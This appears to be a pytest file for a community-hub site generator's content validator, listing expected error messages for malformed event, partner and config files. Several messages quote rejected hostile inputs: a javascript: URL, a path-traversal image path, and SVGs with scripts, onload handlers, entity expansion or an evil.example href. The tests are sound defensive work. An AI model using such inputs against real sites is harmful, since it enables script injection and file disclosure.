        "content/events/teen-tech.md:3: 'start' 2027-03-14 02:30 does not exist in America/Chicago: the clocks go forward one hour that night, skipping that time; choose a time outside the gap",
    ],
    "unknown_time_zone": [
        "content/events/teen-tech.md:6: 'timezone' is not a time zone: 'America/Chicgo'; did you mean 'America/Chicago'? (use a place name from the IANA time zone database, such as America/Chicago, so that daylight-saving time is right)",
    ],
    "image_without_alt": [
        "content/events/teen-tech.md:6: 'image' needs 'image_alt': a short description of the picture for people who cannot see it, e.g. 'image_alt: Two teens at a laptop'",
    ],
    "image_alt_without_image": [
        "content/events/teen-tech.md:6: 'image_alt' is given but there is no 'image'; add the image or remove this line",
    ],
    "image_file_missing": [
        "content/events/teen-tech.md:6: 'image' names a file that does not exist: content/media/teen.jpg; did you mean 'media/teens.jpg'?",
    ],
    "image_from_the_web": [
        "content/events/teen-tech.md:6: 'image' must be a file in content/media/, not a web address (the hub loads nothing from other sites): save the file in content/media/ and write media/<file name>",
    ],
    "image_path_outside_media": [
        "content/events/teen-tech.md:6: 'image' must be a path inside content/media/, not 'media/../../secrets.jpg'",
    ],
    "image_path_without_media": [
        "content/events/teen-tech.md:6: 'image' must be written as 'media/teens.jpg' (relative to content/)",
    ],
    "image_not_a_picture": [
        "content/events/teen-tech.md:6: 'image' must be an image (.avif, .gif, .jpeg, .jpg, .png, .svg, .webp), not 'media/flyer.pdf'",
    ],
    "unknown_audience": [
        "content/events/teen-tech.md:6: unknown audience 'teen'; did you mean 'teens'? (the [audiences] of content/site.toml lists: kids, teens)",
    ],
    "audience_written_as_its_label": [
        "content/events/teen-tech.md:6: unknown audience 'Kids (0-12)'; did you mean 'kids'? (the [audiences] of content/site.toml lists: kids, teens)",
    ],
    "audience_listed_twice": [
        "content/events/teen-tech.md:6: 'teens' is listed twice in 'audiences'",
    ],
    "unknown_language": [
        "content/events/teen-tech.md:6: unknown language 'sp' (the [languages] of content/site.toml lists: en, es, no)",
    ],
    "unknown_partner": [
        "content/events/teen-tech.md:6: unknown partner 'youth-havn'; did you mean 'youth-haven'? (there is no youth-havn.md in content/partners/)",
    ],
    "partner_listed_twice": [
        "content/events/teen-tech.md:6: partner 'youth-haven' is listed twice in 'partners'",
    ],
    "unknown_partner_role": [
        "content/events/teen-tech.md:7: 'partners.role' is 'sponsr'; did you mean 'sponsor'? (choose one of: host, co-host, presenter, sponsor, supporter)",
    ],
    "draft_partner_on_published_event": [
        "content/events/teen-tech.md:6: 'youth-haven' is a draft ('draft: true' in its file), so it is not published and this event would point to a missing page; publish it or remove it from this event",
    ],
    "unknown_location": [
        "content/events/teen-tech.md:4: unknown location 'centrl'; did you mean 'central'? (there is no centrl.md in content/venues/ or content/partners/)",
    ],
    "location_not_a_slug": [
        "content/events/teen-tech.md:4: 'location' 'Central Library' is not a file name: use the file's name without '.md', in lowercase letters, digits and hyphens (did you mean 'central'?)",
    ],
    "no_location_or_online": [
        "content/events/teen-tech.md:2: an event needs a 'location' (a venue or partner file name, or {name: ..., address: ...}) or an 'online' link, or both",
    ],
    "room_without_named_location": [
        "content/events/teen-tech.md:5: 'room' goes with a 'location' that names a venue or partner; for a place written out in full, put the room in its 'name'",
    ],
    "online_not_a_web_address": [
        "content/events/teen-tech.md:4: 'online' must be a web address starting with https://, not 'javascript:alert(1)'",
    ],
    "online_without_https": [
        "content/events/teen-tech.md:4: 'online' must start with https:// (write https://meet.example.org/teen-tech)",
    ],
    "status_misspelt": [
        "content/events/teen-tech.md:6: 'status' is 'canceled'; did you mean 'cancelled'? (choose one of: scheduled, cancelled, postponed)",
    ],
    "rescheduled_and_cancelled": [
        "content/events/teen-tech.md:7: 'rescheduled_from' says the event moved, but 'status' is cancelled; keep one of them",
    ],
    "rescheduled_series": [
        "content/events/teen-tech.md:7: 'rescheduled_from' is for a single event; to move one date of a series use 'occurrences'",
    ],
    "rescheduled_from_same_as_start": [
        "content/events/teen-tech.md:6: 'rescheduled_from' is the same as 'start'; give the earlier start",
    ],
    "yes_for_true": [
        "content/events/teen-tech.md:6: 'draft' must be true or false, not 'yes'",
    ],
    "contact_without_email_or_phone": [
        "content/events/teen-tech.md:6: 'contact' needs an 'email' or a 'phone' so people can get in touch",
    ],
    "contact_email_invalid": [
        "content/events/teen-tech.md:6: 'contact.email' is not an email address: 'ana at example.org'",
    ],
    "registration_without_https": [
        "content/events/teen-tech.md:6: 'registration' must start with https:// (write https://www.example.org/signup)",
    ],
    "uid_with_spaces": [
        "content/events/teen-tech.md:6: 'uid' may use only letters, digits and punctuation without spaces (at most 200), e.g. teen-tech-drop-in@riverside; not 'teen tech'",
    ],
    "uid_used_twice": [
        "content/events/teen-tech.md: calendar identity 'teen-tech@example.org' is also used by content/events/film-night.md; give each event its own 'uid' (or none)",
    ],
    "control_character_in_title": [
        "content/events/teen-tech.md:2: 'title' contains an invisible control character (U+0007); retype the value",
    ],
    "title_on_two_lines": [
        "content/events/teen-tech.md:2: 'title' must be one line",
    ],
    "geo_out_of_range": [
        "content/events/teen-tech.md:4: 'location.geo' is not on the map: latitude must be between -90 and 90 and longitude between -180 and 180 (found 141.8, -87.8)",
    ],
    "until_and_count": [
        "content/events/teen-tech.md:9: give either 'repeat.until' (the last date) or 'repeat.count' (how many times), not both",
    ],
    "series_start_not_on_its_days": [
        "content/events/teen-tech.md:3: 'start' (Wednesday 2026-12-02) is not one of the series' dates (every Thursday); start the series on its first real date, Thursday 2026-12-03",
    ],
    "except_date_not_in_series": [
        "content/events/teen-tech.md:6: 'repeat.except' has Thursday 2026-12-24, which is not a date of this series (every Wednesday); did you mean 2026-12-23 (Wednesday)?",
    ],
    "occurrence_date_not_in_series": [
        "content/events/teen-tech.md:8: Thursday 2026-12-10 is not a date of this series (every Wednesday); did you mean 2026-12-09 (Wednesday)?",
    ],
    "occurrences_without_repeat": [
        "content/events/teen-tech.md:6: 'occurrences' changes single dates of a series, but this event has no 'repeat'; change 'start' and 'end' instead",
    ],
    "date_both_excepted_and_changed": [
        "content/events/teen-tech.md:8: 2026-12-09 is in 'repeat.except' and in 'occurrences'; to cancel one date with a note keep it here with 'status: cancelled' and remove it from 'repeat.except'",
    ],
    "extra_date_already_in_series": [
        "content/events/teen-tech.md:6: 'repeat.also' has 2026-12-09, which is already a date of this series; remove it",
    ],
    "until_before_start": [
        "content/events/teen-tech.md:6: 'repeat.until' (2026-11-01) is before 'start' (2026-12-02)",
    ],
    "on_with_daily_series": [
        "content/events/teen-tech.md:6: 'repeat.on' is for weekly and monthly series; a series every day repeats on the date of 'start'",
    ],
    "weekday_misspelt": [
        "content/events/teen-tech.md:6: 'repeat.on' 'wensday' is not a weekday; did you mean 'wednesday'? (write the day's name, e.g. wednesday)",
    ],
    "monthly_on_misspelt": [
        "content/events/teen-tech.md:6: 'repeat.on' 'frist wednesday' is not a day of the month: write a number such as 15, 'last day', or a week and a weekday such as \"first tuesday\" or \"last friday\"",
    ],
    "rrule_with_every": [
        "content/events/teen-tech.md:6: 'repeat.rrule' replaces 'every', 'interval', 'on', 'until', 'count'; remove 'every' or remove 'rrule'",
    ],
    "rrule_hourly": [
        "content/events/teen-tech.md:6: 'repeat.rrule' has FREQ=HOURLY; events repeat by day, week, month or year (FREQ=DAILY, FREQ=WEEKLY, FREQ=MONTHLY, FREQ=YEARLY)",
    ],
    "every_missing": [
        "content/events/teen-tech.md:6: 'repeat.every' is required, e.g. 'every: week'",
    ],
    "every_misspelt": [
        "content/events/teen-tech.md:6: 'repeat.every' is 'weekly'; did you mean 'week'? (choose one of: day, week, month, year)",
    ],
    "interval_zero": [
        "content/events/teen-tech.md:6: 'repeat.interval' must be at least 1, not 0",
    ],
    "changed_end_before_changed_start": [
        "content/events/teen-tech.md:8: 'occurrences.2026-12-09.end' (2026-12-09 15:00) is before its start (2026-12-09 16:00)",
    ],
    "changed_date_with_unknown_key": [
        "content/events/teen-tech.md:8: unknown key 'time'; the keys a changed date accepts are start, end, status, note, location, room",
    ],
    "changed_date_postponed": [
        "content/events/teen-tech.md:8: 'occurrences.2026-12-09.status' is 'postponed' (choose one of: scheduled, cancelled)",
    ],
    "rrule_at_top_level": [
        "content/events/teen-tech.md:6: unknown key 'rrule': 'rrule' belongs under 'repeat:' (indented by two spaces)",
    ],
    "hash_starts_a_comment": [
        "content/events/teen-tech.md:6: warning: the text after ' #' is a comment in YAML, so only 'Room' is kept; if '#' belongs to the value, put the whole value in double quotes",
    ],
    "bang_starts_a_tag": [
        "content/events/teen-tech.md:6: a value starts with '!', which YAML reads as a type tag and drops; put the whole value in double quotes",
    ],
    "python_tag_is_refused": [
        "content/events/teen-tech.md:7: a value starts with '!', which YAML reads as a type tag and drops; put the whole value in double quotes",
    ],
    "status_rescheduled": [
        "content/events/teen-tech.md:6: 'status' cannot be 'rescheduled': for an event that moved, keep 'status: scheduled' and add 'rescheduled_from' with the earlier start",
    ],
    "postponed_with_a_new_date": [
        "content/events/teen-tech.md:7: 'rescheduled_from' gives the event a new date, but 'status: postponed' says the new date is not known yet; with a new date, remove 'status' (or write 'status: scheduled')",
    ],
    "time_zone_abbreviation": [
        "content/events/teen-tech.md:6: 'timezone' is not a time zone: 'EST'; did you mean 'America/New_York'? (use a place name from the IANA time zone database, such as America/Chicago, so that daylight-saving time is right)",
    ],
    "time_zone_old_alias": [
        "content/events/teen-tech.md:6: 'timezone' is not a time zone: 'US/Central'; did you mean 'America/Chicago'? (use a place name from the IANA time zone database, such as America/Chicago, so that daylight-saving time is right)",
    ],
    "contact_with_empty_email": [
        "content/events/teen-tech.md:6: 'contact' needs an 'email' or a 'phone' so people can get in touch",
    ],
    "value_indented_too_far": [
        "content/events/teen-tech.md:8: the front-matter is not valid YAML (mapping values are not allowed in this context): a value contains ': ' (put the whole value in double quotes), or this line is indented further than the line above",
    ],
    "value_starting_with_a_dash": [
        "content/events/teen-tech.md:6: the front-matter is not valid YAML (block sequence entries are not allowed in this context): a value starts with '- ', which YAML reads as a list; put the whole value in double quotes",
    ],
    "partner_kind_unknown": [
        "content/partners/youth-haven.md:3: 'kind' is 'charity' (choose one of: nonprofit, government, school, business, library, cultural, faith, health, community-group)",
    ],
    "partner_logo_without_alt": [
        "content/partners/youth-haven.md:3: 'logo' needs 'logo_alt': a short description of the picture for people who cannot see it, e.g. 'logo_alt: Youth Haven logo'",
    ],
    "venue_without_address": [
        "content/venues/central.md:1: 'address' is required, e.g. 'address: 1000 Main St, Riverside, IL 60546'",
    ],
    "partner_since_not_a_date": [
        "content/partners/youth-haven.md:3: 'since' is not a date: 'September 2021' (write it as YYYY-MM-DD, e.g. 2026-12-02)",
    ],
    "site_toml_missing": [
        "content/site.toml: is missing: every hub needs content/site.toml with at least title, base_url and timezone",
    ],
    "site_toml_syntax": [
        'content/site.toml:1: is not valid TOML (Invalid value); text values need double quotes, e.g. title = "Riverside Community Hub"',
    ],
    "site_toml_unknown_key": [
        "content/site.toml:3: unknown key 'colour'; the keys site.toml accepts are title, description, library, base_url, timezone, language, translations, repository, branch, default_duration, horizon_months, feed_past_days, verify_every_months, fiscal_year_start, logo, logo_alt, accent_color, audiences, categories, languages, access, age_bands",
    ],
    "site_toml_base_url_missing": [
        "content/site.toml:1: 'base_url' is required, e.g. 'base_url = \"https://riverside-library.github.io/community-hub/\"'",
    ],
    "site_toml_time_zone_unknown": [
        "content/site.toml:3: 'timezone' is not a time zone: 'Chicago'; did you mean 'America/Chicago'? (use a place name from the IANA time zone database, such as America/Chicago, so that daylight-saving time is right)",
    ],
    "site_toml_accent_too_light": [
        "content/site.toml:5: 'accent_color' #ffcc00 is too light to read on white (contrast 1.5:1; links and buttons need at least 4.5:1): choose a darker colour",
    ],
    "site_toml_vocabulary_key_with_spaces": [
        "content/site.toml:6: [audiences] key 'young kids' must be lowercase letters, digits and hyphens (it becomes part of a web address), e.g. young-kids",
    ],
    "site_toml_duration": [
        "content/site.toml:5: 'default_duration' is not a length of time: 'one hour' (write e.g. 1h, 90m or 1h30m)",
    ],
    "site_toml_setting_after_a_table": [
        "content/site.toml:19: 'branch' is a setting, but it comes after the line [access], so TOML reads it as part of that list; move it above the first [table] line",
    ],
    "site_toml_table_twice": [
        "content/site.toml:20: is not valid TOML (Cannot declare ('categories',) twice)",
    ],
    "site_toml_key_with_a_space": [
        "content/site.toml:11: is not valid TOML (Expected '=' after a key in a key/value pair); text values need double quotes, e.g. title = \"Riverside Community Hub\"",
    ],
    "site_toml_language_key_not_a_code": [
        "content/site.toml:14: [languages] key 'American Sign Language' must be a language code such as es or zh-Hant",
    ],
    "site_toml_accent_not_a_colour": [
        "content/site.toml:5: 'accent_color' must be a colour written as # and six hex digits, e.g. \"#0b5394\", not 'navy'",
    ],
    "site_toml_logo_without_alt": [
        "content/site.toml:5: 'logo' needs 'logo_alt': a short description of the picture for people who cannot see it, e.g. 'logo_alt = \"Riverside Public Library\"'",
    ],
    "site_toml_repository_not_an_address": [
        "content/site.toml:5: 'repository' must be the repository's web address, e.g. \"https://github.com/riverside-library/community-hub\", not 'riverside-library/community-hub'",
    ],
    "site_toml_branch_unsafe": [
        "content/site.toml:6: 'branch' must be the name of a branch, such as \"main\" (letters, digits, '.', '_', '-' and '/'), not 'main branch'",
    ],
    "status_note_on_scheduled_event": [
        "content/events/teen-tech.md:6: warning: 'status_note' is shown only for a cancelled, postponed or rescheduled event; this one is scheduled",
    ],
    "private_address_without_neighborhoods": [
        "content/partners/youth-haven.md:4: warning: the address is private, so events here will say 'Address given on registration'; add 'neighborhoods' to tell patrons roughly where it is",
    ],
    "registration_required_without_a_way_to_register": [
        "content/events/teen-tech.md:6: warning: registration is required but there is no 'registration' link or 'contact' to register with",
    ],
    "file_is_a_symbolic_link": [
        "content/events/linked.md: is a symbolic link; content must be real files in the repository",
    ],
    "folder_is_a_symbolic_link": [
        "content/media/shared: is a symbolic link; content must be real files in the repository",
    ],
    "file_is_a_named_pipe": [
        "content/events/pipe.md: is a named pipe, not a file; content must be ordinary files: delete it",
    ],
    "file_name_too_long": [
        f"content/events/{'a' * 252}.md: the file name is 252 characters long before '.md'; a name may have at most 251, because the site makes files named after it ('aaaaaaaaaaaaaaaaaaaa….ics'): shorten it",
    ],
    "body_control_character": [
        "content/events/teen-tech.md:7: the description contains an invisible control character (U+001B) on this line; retype the line",
    ],
    "body_nested_too_deep": [
        "content/events/teen-tech.md:6: lists and quotes in the description are nested 600 deep on this line; keep it to 20 (content never needs more, and the page could not be made)",
    ],
    "body_too_many_brackets": [
        "content/events/teen-tech.md:8: the paragraph of the description that starts on this line has more than 50 '[' characters; a link or picture needs one each, and more would take minutes to make into a page: remove the extra ones",
    ],
    "body_too_many_angle_brackets": [
        "content/events/teen-tech.md:6: the paragraph of the description that starts on this line has more than 500 '<' characters, which would take minutes to make into a page: write fewer, or use words such as 'under' and 'less than'",
    ],
    "body_too_long": [
        "content/events/teen-tech.md:6: the description is 21,001 characters long; keep it to 20,000 or fewer (link to a longer text elsewhere)",
    ],
    "body_direction_override": [
        "content/events/teen-tech.md:6: warning: the description contains an invisible text-direction control (U+202E), which can make the text show in a different order from how it reads; retype it unless you put it there on purpose",
    ],
    "text_direction_override": [
        "content/events/teen-tech.md:6: warning: 'cost' contains an invisible text-direction control (U+202E), which can make the text show in a different order from how it reads; retype it unless you put it there on purpose",
    ],
    "site_toml_horizon_too_far": [
        "content/site.toml:5: 'horizon_months' must be at most 60, not '100000'",
    ],
    "site_toml_vocabulary_key_too_long": [
        "content/site.toml:6: [audiences] key 'kkkkkkkkkkkkkkkkkkkk…' is 300 characters long; a key may have at most 251, because the site makes files named after it: shorten it",
    ],
    "svg_with_a_script": [
        "content/media/flyer.svg:3: the picture contains <script>, which SVG pictures on the hub may not have (it could run code, or load something from another site); save the picture again as plain SVG without it, or as a PNG",
    ],
    "svg_with_an_event_handler": [
        "content/media/flyer.svg:1: the picture's <svg> has the attribute 'onload', which SVG pictures on the hub may not have (it could run code); save the picture again as plain SVG without it, or as a PNG",
    ],
    "svg_loading_from_another_site": [
        'content/media/flyer.svg:2: the picture\'s <use> has href="https://evil.example/sprite.svg#a", which points outside the picture (the hub loads nothing from other sites); save the picture again as plain SVG without it, or as a PNG',
    ],
    "svg_with_entities": [
        "content/media/flyer.svg:2: the picture declares a DOCTYPE or entities, which SVG pictures on the hub may not have (they can make a file expand without end); save the picture again as plain SVG without it, or as a PNG",
    ],
    "svg_not_well_formed": [
        "content/media/flyer.svg:3: the picture is not a readable SVG file (no element found); save it again from the drawing program",
    ],
    "web_page_in_media": [
        "content/media/flyer.html: is a web page or script (.html), which would run on the hub's address; media/ is for pictures and documents: link to the page instead, or save it as a PDF",
    ],
    "no_break_space_after_a_key": [
        "content/events/teen-tech.md:2: there is a no-break space after 'title:', which YAML does not count as a space (it comes with text pasted from a word processor or a web page); replace it with an ordinary space",
    ],
    "events_folder_in_capitals": [
        "content/Events: Bulletin reads content/events/, not content/Events/, so nothing in this folder would be published: rename the folder to 'events' (lowercase)",
    ],
    "registration_mailto_without_an_address": [
        "content/events/teen-tech.md:6: 'registration' must be mailto: and an email address, such as mailto:teens@example.org, not 'mailto:'",
    ],
    "folder_not_read": [
        "content/event: warning: is not something Bulletin reads, so it is not published; did you mean 'events'? content/ holds site.toml and the folders events/, partners/, venues/, media/ and translations/",
    ],
    "end_on_a_twelve_hour_clock": [
        "content/events/teen-tech.md:4: 'end' (03:30) is before 'start' (14:00); for 3:30 pm write 'end: 15:30' (times use the 24-hour clock; an event that ends after midnight gives the full date and time, e.g. 'end: 2026-12-03 03:30')",
    ],
    "title_in_curly_quotes": [
        'content/events/teen-tech.md:2: this value is in curly quotes (\u201c \u201d or \u2018 \u2019), which YAML reads as ordinary letters; retype them as straight double quotes (") around the whole value',
    ],
    "audiences_without_brackets": [
        "content/events/teen-tech.md:6: 'audiences' has several words without square brackets, so they are read as one ('teens, kids'); write 'audiences: [teens, kids]'",
    ],
    "list_item_indented_less_than_the_one_above": [
        "content/events/teen-tech.md:8: this list item is not lined up with the one above it; start every '- ' of a list in the same column, two spaces in from the key above the list",
    ],
    "list_item_indented_more_than_the_one_above": [
        "content/events/teen-tech.md:8: this list item is not lined up with the one above it; start every '- ' of a list in the same column, two spaces in from the key above the list",
    ],
    "image_missing_with_no_file_of_a_like_name": [
        "content/events/teen-tech.md:6: 'image' names a file that does not exist: content/media/events/flyer.png",
    ],
    "room_with_a_location_that_is_not_a_file_name": [
        "content/events/teen-tech.md:4: 'location' 'Central Library' is not a file name: use the file's name without '.md', in lowercase letters, digits and hyphens (did you mean 'central'?)",
    ],
    "site_toml_category_named_like_a_setting": [],
    "lang_not_a_hub_language": [
        "content/events/teen-tech.md:6: 'lang' is 'spa', which is not one of the hub's languages (the site's own, en, or a code from the [languages] of content/site.toml: en, es, no)",
    ],
    "series_time_in_a_spring_forward_gap": [
        "content/events/teen-tech.md:3: warning: the series' time, 02:30, does not exist on Sunday 2027-03-14 in America/Chicago: the clocks go forward over it that night, so that date starts at 03:30; to hold it at another time, change the date under 'occurrences'",
    ],
    "site_toml_language_setting_after_a_table": [
        "content/site.toml:19: 'language' is a setting, but it comes after the line [access], so TOML reads it as part of that list; move it above the first [table] line",
    ],
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_message(hub, case):
    code, output = hub(CASES[case], *OPTIONS.get(case, ()))
    assert output == EXPECTED[case]
    has_errors = any(": warning: " not in line for line in EXPECTED[case])
    assert code == (1 if has_errors else 0)


def test_every_case_has_an_expected_message():
    assert sorted(CASES) == sorted(EXPECTED)


def _commit(root, when: str) -> None:
    import os
    import subprocess

    environment = dict(
        os.environ,
        GIT_AUTHOR_NAME="Staff",
        GIT_AUTHOR_EMAIL="staff@example.org",
        GIT_COMMITTER_NAME="Staff",
        GIT_COMMITTER_EMAIL="staff@example.org",
        GIT_AUTHOR_DATE=when,
        GIT_COMMITTER_DATE=when,
        GIT_CONFIG_GLOBAL=os.devnull,
        GIT_CONFIG_NOSYSTEM="1",
    )
    for command in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "x"]):
        subprocess.run(["git", *command], cwd=root, env=environment, check=True)


LAST_YEARS = raw("---\ntitle: X\nstart: 2026-02-14 18:00\nlocation: central\n---\n")
EARLIER_YEAR = (
    "content/events/teen-tech.md:3: warning: 'start' 2026-02-14 is in 2026, a year that is over, "
    "so the event is listed only as past; if it is still to come, write 'start: 2027-02-14 18:00'"
)


# Messages asserted by the tests below rather than through CASES (they need git history).
EXPECTED_ELSEWHERE = [EARLIER_YEAR]


def test_a_one_off_event_dated_in_a_year_that_is_over_is_questioned_when_it_is_added(hub, in_tmp):
    """Typed in January 2027 out of habit, "2026" puts the event a year in the past."""
    needs_git()
    from conftest import write_hub

    write_hub(in_tmp, LAST_YEARS)
    _commit(in_tmp, "2027-01-08T10:00:00Z")
    assert hub(LAST_YEARS, "--now", "2027-01-10T09:00") == (0, [EARLIER_YEAR])
    # Not committed yet: it is being written now.
    new = {**LAST_YEARS, "events/new.md": LAST_YEARS["events/teen-tech.md"]}
    assert hub(new, "--now", "2027-01-10T09:00") == (
        0,
        [EARLIER_YEAR.replace("teen-tech.md", "new.md"), EARLIER_YEAR],
    )


@pytest.mark.parametrize(
    "committed, now, event",
    [
        ("2027-01-08T10:00:00Z", "2027-02-08T10:00:01", LAST_YEARS),  # added over a month ago
        ("2026-02-01T10:00:00Z", "2027-01-10T09:00", LAST_YEARS),  # added before it took place
        (  # a series: its dates go on
            "2027-01-08T10:00:00Z",
            "2027-01-10T09:00",
            {
                "events/teen-tech.md": LAST_YEARS["events/teen-tech.md"].replace(
                    "location", "repeat: {every: week, count: 3}\nlocation"
                )
            },
        ),
    ],
)
def test_last_years_events_in_the_archive_are_not_questioned(hub, in_tmp, committed, now, event):
    needs_git()
    from conftest import write_hub

    write_hub(in_tmp, event)
    _commit(in_tmp, committed)
    assert hub(event, "--now", now) == (0, [])


def test_without_the_full_history_the_year_is_not_questioned(hub, in_tmp):
    """Outside a repository (or in a shallow clone, where one commit seems to add every file) the
    check cannot tell a new file from an old one, so it says nothing rather than warn on all."""
    assert hub(LAST_YEARS, "--now", "2027-01-10T09:00") == (0, [])


def test_a_shallow_clone_has_no_history_to_tell_new_files_from_old(in_tmp):
    needs_git()
    import subprocess

    from generator.incremental.history import added_times

    from conftest import write_hub

    write_hub(in_tmp / "full", LAST_YEARS)
    _commit(in_tmp / "full", "2027-01-08T10:00:00Z")
    events = in_tmp / "full" / "content" / "events"
    assert added_times(events) == {(events / "teen-tech.md").resolve(): _utc(2027, 1, 8, 10)}
    subprocess.run(
        ["git", "clone", "-q", "--depth", "1", (in_tmp / "full").as_uri(), "shallow"],
        cwd=in_tmp,
        check=True,
    )
    assert added_times(in_tmp / "shallow" / "content" / "events") is None


def _utc(*parts):
    from datetime import UTC, datetime

    return datetime(*parts, tzinfo=UTC)


def needs_git() -> None:
    import shutil

    from conftest import needs

    needs(shutil.which("git") is not None, "git is not installed")
